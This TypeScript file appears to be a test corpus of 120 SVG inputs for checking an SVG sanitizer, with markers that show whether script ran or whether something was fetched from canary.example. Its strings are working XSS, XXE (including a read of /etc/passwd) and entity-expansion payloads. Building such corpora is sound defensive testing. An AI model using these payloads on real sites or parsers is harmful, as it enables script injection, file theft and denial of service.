/**
 * 120 drawings that want to run something or to fetch something: each way in at each place. What runs sets `canary` on the
 * top window; what is fetched comes from `canary.example`.
 */
const OUT = 'https://canary.example';
const RUN = "top.canary='run'";

/** Stands as an element of the drawing. */
const INSIDE: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script type="text/javascript"><![CDATA[${RUN}]]></script>`,
  `<script href="${OUT}/a.js"/>`,
  `<script xlink:href="data:text/javascript,${RUN}"/>`,
  `<x:script xmlns:x="http://www.w3.org/2000/svg">${RUN}</x:script>`,
  `<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${OUT}/i" onerror="${RUN}"/></foreignObject>`,
  `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"/></foreignObject>`,
  `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/></foreignObject>`,
  `<foreignObject width="9" height="9"><embed xmlns="http://www.w3.org/1999/xhtml" src="data:text/html,${RUN}"/></foreignObject>`,
  `<image href="${OUT}/i.png" width="9" height="9"/>`,
  `<image xlink:href="data:image/svg+xml;utf8,&lt;svg onload='${RUN}'/&gt;" width="9" height="9"/>`,
  `<use href="${OUT}/i.svg#x"/>`,
  `<use href="data:image/svg+xml,&lt;svg id='x' onload='${RUN}'/&gt;#x"/>`,
  `<feImage href="${OUT}/f.png"/>`,
  `<a href="javascript:${RUN}"><rect width="9" height="9"/></a>`,
  `<a xlink:href="java&#9;script:${RUN}"><text y="9">x</text></a>`,
  `<animate attributeName="href" values="javascript:${RUN}" begin="0s"/>`,
  `<set attributeName="onmouseover" to="${RUN}"/>`,
  `<animate onbegin="${RUN}" attributeName="x" dur="1s"/>`,
  `<style>@import url("${OUT}/s.css");</style>`,
  `<style>rect{background:url(${OUT}/b);fill:url(${OUT}/f#a)}</style>`,
  `<style>@font-face{font-family:a;src:url(${OUT}/f.woff)}text{font-family:a}</style><text y="9">x</text>`,
  `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${OUT}/l.css"/>`,
  `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${OUT}"/>`,
  `<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${RUN}"/>`,
  `<handler xmlns="http://www.w3.org/2001/xml-events" type="text/javascript">${RUN}</handler>`,
  `<video xmlns="http://www.w3.org/1999/xhtml" src="${OUT}/v" onerror="${RUN}"/>`,
  `<discard onend="${RUN}" begin="0s"/>`,
  `<switch><foreignObject width="9" height="9"><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script></foreignObject></switch>`,
];

/** Stands as an attribute of a shape. */
const ATTRIBUTES: readonly string[] = [
  `onload="${RUN}"`,
  `onclick="${RUN}" onmouseover="${RUN}" onfocus="${RUN}" tabindex="0" autofocus=""`,
  `ONLOAD="${RUN}"`,
  `style="fill:url(${OUT}/s#a)"`,
  `style="background-image:url('${OUT}/s')"`,
  `style="fill:\\75rl(${OUT}/s)"`,
  `style="fill:u/**/rl(${OUT}/s)"`,
  `style="behavior:url(${OUT}/b.htc);-moz-binding:url(${OUT}/b.xml#a)"`,
  `style="cursor:url(${OUT}/c),auto"`,
  `fill="url(${OUT}/p#a)"`,
  `fill="url( &quot;${OUT}/p#a&quot; )"`,
  `filter="url(${OUT}/f#a)"`,
  `mask="url(//canary.example/m#a)"`,
  `clip-path="url(&#x68;ttps://canary.example/c#a)"`,
  `marker-start="url(${OUT}/m#a)"`,
  `cursor="url(${OUT}/c), auto"`,
  `href="${OUT}/h"`,
  `xlink:href="javascript:${RUN}"`,
  `xml:base="${OUT}/"`,
  `xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="javascript:${RUN}"`,
];

/** A whole file of its own. */
const WHOLE: readonly string[] = [
  `<?xml version="1.0"?><?xml-stylesheet href="${OUT}/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,${RUN}"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "${OUT}/e">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${OUT}/d.dtd"> %p;]><svg xmlns="http://www.w3.org/2000/svg"/>`,
  `<!DOCTYPE svg SYSTEM "${OUT}/svg.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>`,
  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]><svg xmlns="http://www.w3.org/2000/svg"/>`,
  `<!DOCTYPE svg [${Array.from({ length: 9 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('')}<!ENTITY e0 "ha">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e9;</text></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xml:base="${OUT}"><use xlink:href="#x"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><svg onload="${RUN}"><script>${RUN}</script></svg></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><text><![CDATA[</text><script>${RUN}</script>]]></text></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><title>&lt;script&gt;${RUN}&lt;/script&gt;</title></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><!-- --><script>${RUN}</script><!-- --></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><desc><script>${RUN}</script></desc></svg>`,
  `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
  `<!-- <svg> --><html><body onload="${RUN}"></body></html>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><g id="a"><use href="#a"/></g></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(400)}${'</g>'.repeat(400)}</svg>`,
];

const svg = (inside: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" viewBox="0 0 9 9">${inside}</svg>`;

export const SVG_CORPUS: readonly string[] = [
  ...INSIDE.map(svg),
  ...INSIDE.map((element) => svg(`<defs><g id="g">${element}</g></defs><use href="#g"/>`)),
  ...ATTRIBUTES.map((attribute) => svg(`<rect width="9" height="9" ${attribute}/>`)),
  ...ATTRIBUTES.map((attribute) => svg(`<text y="9" ${attribute}><tspan ${attribute}>x</tspan></text>`)),
  ...WHOLE,
];
